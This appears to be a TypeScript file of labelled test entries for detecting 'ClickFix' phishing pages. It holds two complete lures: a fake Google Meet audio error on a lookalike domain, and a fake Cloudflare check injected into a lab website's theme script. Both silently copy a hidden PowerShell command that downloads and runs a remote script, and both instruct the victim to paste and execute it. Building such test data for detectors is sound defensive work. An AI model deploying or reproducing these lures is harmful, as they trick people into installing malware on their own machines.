import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, doc } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-clickfix-meet-microphone',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://meet.google.com-join.us/vxr-qbnm-tpa',
  body: doc('Meet - vxr-qbnm-tpa', `
<div style="background:#202124;color:#e8eaed;min-height:100vh;font-family:Google Sans,Roboto,Arial;display:flex;align-items:center;justify-content:center">
 <div style="background:#2d2e31;border-radius:10px;padding:30px;max-width:520px">
  <h2 style="margin-top:0">&#x26A0; Microphone and camera access blocked</h2>
  <p>Your browser could not start audio. This is a known issue with the latest Windows update. Fix it in three steps so that you can join <b>Weekly Lab Meeting &ndash; Chen Lab</b>:</p>
  <ol><li>Click <b>Fix it</b> below</li><li>Open PowerShell (Windows + X, then I)</li><li>Right click to paste and press Enter</li></ol>
  <button id="fix" style="background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:10px 28px;font-size:15px">Fix it</button>
  <p id="ok" style="display:none;color:#81c995">Copied! Paste into PowerShell to repair audio.</p>
 </div>
</div>
<script>
const p=atob('${b64('powershell -w h -ep bypass -c "$u=\'https://meet-fix.cdn-audio.net/fix.ps1\';iex (New-Object Net.WebClient).DownloadString($u)"')}');
document.getElementById('fix').onclick=async()=>{try{await navigator.clipboard.writeText(p)}catch(e){}document.getElementById('ok').style.display='block'};
</script>`),
},
{
  id: 'zt-clickfix-turnstile-compromised-lab',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.kowalski-neurolab.org/people/',
  routes: {
    'www.kowalski-neurolab.org/people/': htmlRoute(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>People | Kowalski Lab</title><script src="/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.6.4"></script></head>
<body style="font-family:Georgia,serif"><header><h1>Kowalski Lab &mdash; Cellular Neuroscience</h1></header><main><h2>People</h2><p>Principal Investigator: Anna Kowalski, PhD. Postdocs: R. Ibarra, T. Nguyen. Graduate students: M. Osei, J. Park.</p></main></body></html>`),
    'www.kowalski-neurolab.org/wp-content/themes/astra/assets/js/minified/frontend.min.js': jsRoute(`(function(){if(localStorage.getItem('cf_ok'))return;
var s=document.createElement('div');s.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:system-ui;display:flex;flex-direction:column;align-items:center;justify-content:center';
s.innerHTML='<h2>www.kowalski-neurolab.org</h2><p>Verify you are human by completing the action below.</p><div id="cfb" style="border:1px solid #ccc;padding:16px 24px;display:flex;gap:10px;align-items:center;cursor:pointer"><input type="checkbox"> Verify you are human <small style="margin-left:30px;color:#f38020">Cloudflare</small></div><div id="cfs" style="display:none;margin-top:16px;max-width:460px;font-size:14px">Verification failed. To confirm you are human: press <b>Win+R</b>, press <b>Ctrl+V</b>, press <b>Enter</b>.</div>';
document.addEventListener('DOMContentLoaded',function(){document.body.appendChild(s);
document.getElementById('cfb').onclick=function(){var cmd='powershell.exe -NoP -W Hidden -C "iwr https://kowalski-neurolab.org.cdn-cf.live/c.txt -UseBasicParsing | iex" # Cloudflare Ray ID: 8c1f';navigator.clipboard.writeText(cmd);document.getElementById('cfs').style.display='block'}});})();`),
  },
},
];
